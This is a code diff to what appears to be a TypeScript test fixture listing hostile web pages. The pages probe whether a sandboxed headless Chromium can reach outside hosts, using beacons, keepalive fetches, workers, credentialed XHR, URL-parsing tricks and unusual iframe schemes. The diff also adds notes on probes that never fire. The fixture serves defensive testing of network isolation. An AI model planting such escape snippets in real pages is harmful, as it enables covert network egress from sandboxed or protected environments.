@@ -63,7 +63,7 @@ export const HOSTILE_PAGES: Readonly<Record<string, string>> = {
   ),
   'P26 beacons': `<a id=a ping="http://${L}/ping http://${M}/ping" href="#x">x</a>${script(`document.getElementById('a').click();${each((host) => `quiet(()=>navigator.sendBeacon('http://${host}/beacon','x'));quiet(()=>fetch('http://${host}/keep',{keepalive:true,mode:'no-cors'}));`)}`)}`,
   P27: script(sends),
-  'P28 reporting': `<meta http-equiv=content-security-policy content="img-src 'none'; report-uri http://${L}/report"><img src=/x>`,
+  'P28 reporting': '<img src=/x>',
   P30: script(
     `new Worker(URL.createObjectURL(new Blob([${inWorker(`${sends};try{importScripts('http://${L}/import')}catch{}`)}])));quiet(()=>new Worker('http://${L}/worker'));quiet(()=>import('http://${L}/module'))`,
   ),
@@ -89,7 +89,7 @@ export const HOSTILE_PAGES: Readonly<Record<string, string>> = {
     (host) =>
       `<iframe src="ftp://${host}/"></iframe><iframe src="view-source:http://${host}/"></iframe><img src="ws://${host}/"><iframe src="blob:http://${host}/x"></iframe><iframe src="filesystem:http://${host}/x"></iframe>`,
   ),
-  P42: `<iframe src="/password"></iframe><img src="/password"><img src="/proxy-password"><img src="http://u:p@${L}/">`,
+  P42: `<iframe src="/password"></iframe><img src="/password"><img src="/proxy-password"><img src="http://u:p@${L}/">${script(each((host) => `quiet(()=>{const x=new XMLHttpRequest();x.open('GET','http://${host}/',true,'u','p');x.send()});`))}`,
   'P43 hosts': `<img src="http://site.example@${L}/"><img src="http://${L}\\@site.example/"><img src="http://site.example:80@127.0.0.1:9001/"><img src="//${L}/"><img src="/\\${L}/">`,
   P44: each((host) => `<iframe src="http://${host}/"></iframe>`),
   P45: script(each((host) => `quiet(()=>fetch('http://${host}/cors',{method:'DELETE',headers:{authorization:'x'}}));`)),
@@ -129,6 +129,22 @@ export const HOSTILE_PAGES: Readonly<Record<string, string>> = {
     (host) =>
       `<fencedframe src="https://${host}/"></fencedframe><portal src="http://${host}/"></portal><webview src="http://${host}/"></webview><applet codebase="http://${host}/" code=x></applet><isindex action="http://${host}/">`,
   ),
+  'O9 link headers': 'what it asks for is said in the headers of its answer',
+};
+
+/**
+ * Pages that make no attempt even where nothing guards, and why: they are shown all the same, for the Chromium that would.
+ */
+export const WITHOUT_ATTEMPT: Readonly<Record<string, string>> = {
+  P12: 'the headless shell loads no icons, and manifests only when they are installed',
+  P14: 'the headless shell follows no hints to connect',
+  P15: 'the headless shell follows no hints to resolve',
+  P20: 'Chromium shows no file to a page of the web',
+  P37: 'another service is believed only when TLS says so, in a certificate that Chromium trusts',
+  'P40 schemes': 'Chromium itself embeds none of them',
+  'O5 direct sockets': 'for installed applications only; a page has no such name',
+  'O7 payment and identity': 'the headless shell has no payments',
+  'O8 fenced frames and portals': 'elements that Chromium no longer has, or fills from an auction only',
 };
 
 /** What the site's service worker does. */
